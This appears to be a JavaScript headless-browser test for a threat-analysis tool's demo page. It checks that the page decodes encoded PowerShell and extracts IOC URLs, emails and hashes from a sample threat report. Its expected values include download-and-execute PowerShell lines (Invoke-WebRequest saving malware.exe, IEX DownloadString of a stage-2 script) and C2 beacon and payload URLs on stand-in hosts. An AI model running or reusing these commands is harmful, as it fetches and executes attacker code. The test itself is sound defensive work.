// The Tour's analysis cells in headless Chromium: the encoded command decoded, encoded PowerShell in the demo's
// SecurityEvent decoded with its C2 URLs, and the exact URL set of the STIX threat report; no console errors.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { openBrowser, screenshot } from "./browser.mjs";

let b;
before(async () => { b = await openBrowser(); });
after(async () => { await b.close(); });

const cellRows = (page, sel) =>
  page.$$eval(`${sel} tbody tr`, (trs) => trs.map((tr) => [...tr.cells].map((td) => td.textContent)));

test("the Tour decodes the encoded command and extracts the report's URLs", async () => {
  const { page, errors } = await b.newPage();
  await page.goto(`${b.base}/tour/`);
  await page.click("#cell-source button[name=demo]");
  await page.waitForSelector("body[data-tour=done]", { timeout: 90000 });
  for (const id of ["decode", "unpack-table", "iocs"]) {
    const [state, err] = await page.$eval(`#cell-${id}`, (c) => [c.dataset.state, c.querySelector(".error")?.textContent]);
    assert.equal(state, "done", `${id}: ${err}`);
  }
  await page.$eval("#cell-decode", (c) => c.scrollIntoView());
  await screenshot(page, "analysis");

  // 1. The Tour's command.
  const decoded = "Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe";
  assert.equal(await page.textContent("#cell-decode pre.decoded"), decoded);
  assert.equal(await page.textContent("#cell-decode pre.unpacked-text"),
    `powershell.exe -encodedCommand <decoded type='string' name='[None]' index='1' depth='1'>${decoded}</decoded>`);
  const frag = await cellRows(page, "#cell-decode");
  assert.deepEqual(frag[0].slice(0, 4), ["1", decoded, "utf-8", "5845a06d7f52b1818a088e889df95c77"]);
  assert.ok(frag[0][4].startsWith("49 6e 76 6f 6b 65 2d 57 65 62"), `input_bytes as hex: ${frag[0][4]}`);
  // The tag is text, not markup.
  assert.equal(await page.$$eval("#cell-decode decoded", (d) => d.length), 0);

  // 2. The demo's encoded PowerShell: the attacker's stage-2 and beacon URLs come out of the decoded commands.
  const fragments = await cellRows(page, "#cell-unpack-table .labelled:nth-of-type(1)");
  const texts = fragments.map((r) => r[2]);
  assert.ok(texts.includes("IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')"), texts.join("\n"));
  assert.ok(fragments.some((r) => r[1] === "utf-16") && fragments.some((r) => r[1] === "utf-8"));
  const iocs = await cellRows(page, "#cell-unpack-table .labelled:nth-of-type(2)");
  const urls = [...new Set(iocs.filter((r) => r[0] === "url").map((r) => r[1]))].sort();
  assert.deepEqual(urls, ["http://cdn-updates.northwind-sync.xyz/stage2.ps1", "https://cdn-updates.northwind-sync.xyz/api/beacon"]);

  // 3. The threat report: exactly these URLs, refanged, in order of appearance.
  const reportUrls = await page.$$eval("#cell-iocs ul.urls li", (lis) => lis.map((li) => li.textContent));
  assert.deepEqual(reportUrls, [
    "https://northwind-payroll.com/sso/login.aspx?ref=q3",
    "https://t.wingtiptoys-mail.com/c?r=https%3A%2F%2Ffiles.fabrikam-share.net%2Fd%2FQ3_payroll.zip",
    "https://files.fabrikam-share.net/d/Q3_payroll.zip",
    "http://198.51.100.23:8080/gate.php",
    "ftp://203.0.113.45/pub/rc.exe",
    "https://files.fabrikam-share.net/upload",
    "https://northwind-payroll.com/sso/login.aspx?ref=q3&lang=en",
  ]);
  const table = await cellRows(page, "#cell-iocs .labelled:last-of-type");
  assert.ok(table.some((r) => r[0] === "email" && r[1] === "payroll-notice[at]northwind-payroll[.]com" && r[2] === "payroll-notice@northwind-payroll.com"));
  assert.ok(table.some((r) => r[0] === "sha256_hash" && r[1] === "3b7e1f9a5c2d8e4f6a0b1c3d5e7f9a2b4c6d8e0f1a3b5c7d9e2f4a6b8c0d1e3f"));
  assert.ok(!table.some((r) => /mitre\.org|update\.ps/.test(r[1])), "no XML namespaces, no update.ps");

  assert.deepEqual(errors, []);
  assert.ok(b.requests.every((u) => u.startsWith(b.base)), "nothing loaded from off the loopback server");
});
